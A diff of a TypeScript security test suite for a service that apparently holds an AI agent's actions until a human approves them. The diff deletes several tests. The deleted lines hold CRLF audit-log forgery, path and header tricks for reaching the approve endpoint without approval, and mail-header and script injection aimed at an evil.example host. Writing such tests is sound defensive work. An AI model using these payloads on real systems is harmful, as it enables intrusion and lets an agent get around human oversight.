@@ -11,12 +11,9 @@ import { OWNER_KEY, Service } from "../support/service.ts";
 import { Target } from "../support/target.ts";
 import {
   ANN,
-  type Answer,
   type Attack,
   hostOf,
   linksIn,
-  type Names,
-  NOTIFY,
   PASSWORD,
   type Scene,
   testAttacks,
@@ -29,7 +26,6 @@ import {
 setDefaultTimeout(60_000);
 
 const HAS_IPV6 = Object.values(networkInterfaces()).some((all) => all?.some(({ address }) => address === "::1"));
-const EVIL_MAIL = "agent@evil.example";
 const SECRET = "sk_live_4eC39HqLyjWDarjtT1zdp7dc";
 const HUNTER = "hunter2-canary";
 const YES = { action: "accept", content: { decision: "approve" } } as const;
@@ -96,8 +92,6 @@ const SENDS = (action: string, fields: object) => `(() => {
 })()`;
 
 const previews = () => new Response("<h1>Preview</h1>", { headers: { "content-type": "text/html" } });
-
-const isRefused = ({ status }: Answer) => status >= 400 && status < 500;
 
 /** What whoever decides reads of a request: mail, link page, page for several at once, page of the inbox. */
 async function placesOf({ w }: Scene, id: string): Promise<Readonly<Record<string, string>>> {
@@ -205,74 +199,6 @@ const MCP_ATTACKS: readonly Attack[] = [
 
 const REST_ATTACKS: readonly Attack[] = [
   {
-    name: "The audit log is written, altered and deleted, and entries are forged by a reason",
-    async run({ w, url }) {
-      for (const key of [keyOf(w), OWNER_KEY]) {
-        for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
-          expect((await w.ask(method, "/v1/audit", { key, body: {} })).status).toBeGreaterThanOrEqual(403);
-        }
-      }
-      const id = await w.held({ url });
-      const forged = `{"kind":"approved","actor":"user:${ANN}","subject":"${id}"}`;
-      await w.by("POST", `/v1/actions/${id}/cancel`, { body: { reason: `x\n${forged}\r\n\u2028${forged}` } });
-      const { text } = await w.ask("GET", "/v1/audit", { key: OWNER_KEY, headers: { accept: "application/x-ndjson" } });
-      const entries = text
-        .trim()
-        .split(/\n|\r/)
-        .map((line) => JSON.parse(line) as { kind: string; subject: string; actor: string });
-      const about = entries.filter(({ subject }) => subject === id);
-      expect(about.map(({ kind, actor }) => [kind, actor])).toEqual([["cancelled", "key:agent"]]);
-    },
-  },
-  {
-    name: "Approve is asked for under other spellings of its path and by method overrides",
-    run: async ({ w, url }) => {
-      const id = await w.held({ url });
-      const path = `/v1/actions/${id}`;
-      const ways: readonly (readonly [string, string, Names?])[] = [
-        ["POST", `${path}/approve/`],
-        ["POST", `${path}/%61pprove`],
-        ["POST", `/V1/actions/${id}/approve`],
-        ["POST", `//v1/actions/${id}/approve`],
-        ["POST", `${path}/./approve`],
-        ["POST", `${path}/cancel/../approve`],
-        ["POST", `${path}/approve?role=owner`],
-        ["POST", `${path}/approve;x`],
-        ["GET", `${path}/approve`],
-        ["PUT", `${path}/approve`],
-        ["GET", `${path}/approve`, { "x-http-method-override": "POST" }],
-        ["POST", path, { "x-original-url": `${path}/approve`, "x-rewrite-url": `${path}/approve` }],
-        ["POST", `${path}/approve`, { "x-forwarded-user": "ann", "x-role": "owner", "x-outgate-role": "owner" }],
-      ];
-      for (const [method, at, headers = {}] of ways) {
-        expect({ method, at, isRefused: isRefused(await w.by(method, at, { headers })) }).toMatchObject({
-          isRefused: true,
-        });
-      }
-      expect(await w.stateOf(id)).toBe("awaiting_approval");
-    },
-  },
-  {
-    name: "An approval link is looked for in every answer, callback, receipt and log line",
-    run: async ({ w, url }) => {
-      const id = await w.held({ url, ...NOTIFY, callback: w.listed.url });
-      const links = linksIn(await w.mailOf(id)).map((link) => link.slice(3));
-      const paths = [
-        `/v1/actions/${id}`,
-        `/v1/actions/${id}/timeline`,
-        `/v1/actions/${id}/facts`,
-        "/v1/actions?limit=100",
-        "/metrics",
-        "/health",
-      ];
-      const told = await Promise.all(paths.map(async (path) => (await w.by("GET", path)).text));
-      const receipt = String((await w.by("GET", `/v1/actions/${id}`)).json["receipt_url"]);
-      told.push((await w.ask("GET", new URL(receipt, w.base).pathname)).text);
-      told.push(w.service.output, JSON.stringify(w.listed.received));
-      for (const text of told) for (const link of links) expect(text).not.toContain(link);
-    },
-  },
-  {
     name: "Short secrets of another key's action are read in its facts, which are masked for whoever decides",
     run: async ({ w, url }) => {
       const request = {
@@ -322,33 +248,6 @@ const REST_ATTACKS: readonly Attack[] = [
       for (const [place, text] of Object.entries(places)) {
         expect(text.includes("delete all") && text.includes('"do"'), place).toBe(true);
       }
-    },
-  },
-];
-
-const MAIL_ATTACKS: readonly Attack[] = [
-  {
-    name: "Headers, recipients and links of its own in the mail",
-    async run({ w, url }) {
-      const lie = `ok\r\nBcc: ${EVIL_MAIL}\r\n\r\nApprove: https://evil.example/a/x <a href="https://evil.example">Approve</a><style>p{display:none}</style>\u202E`;
-      const id = await w.held({
-        url: `${url}%0d%0aBcc:%20x@evil.example/<a%20href=https://evil.example>`,
-        headers: { "x-note": 'v"><script>fetch("//evil.example")</script>' },
-        body: { note: lie, "<b>": lie },
-        reason: lie,
-        ...NOTIFY,
-      });
-      const { fields } = await w.mailOf(id);
-      expect(fields["to"]).toBe(ANN);
-      expect(Object.keys(fields).filter((name) => /cc$/i.test(name))).toEqual([]);
-      expect(fields["subject"]).not.toMatch(/[\r\n\p{Cc}\p{Cf}]/u);
-      const html = fields["html"] ?? "";
-      const places = [...html.matchAll(/(?:href|src|action)="([^"]*)"/g)].map(([, at = ""]) => at);
-      for (const at of places) expect(at).toStartWith(w.base);
-      expect(html).not.toMatch(/<script|<img|<form|<iframe|p\{display:none\}<\/style>/i);
-      expect(fields["text"]).not.toMatch(/\p{Cf}/u);
-      expect(fields["text"]).not.toMatch(/^\s*Bcc:|^Approve: https:\/\/evil/m);
-      expect(fields["h:Reply-To"]).toBeUndefined();
     },
   },
 ];
@@ -464,4 +363,4 @@ const MACHINE_ATTACKS: readonly Attack[] = [
   },
 ];
 
-testAttacks([...MCP_ATTACKS, ...REST_ATTACKS, ...MAIL_ATTACKS, ...SESSION_ATTACKS, ...MACHINE_ATTACKS]);
+testAttacks([...MCP_ATTACKS, ...REST_ATTACKS, ...SESSION_ATTACKS, ...MACHINE_ATTACKS]);
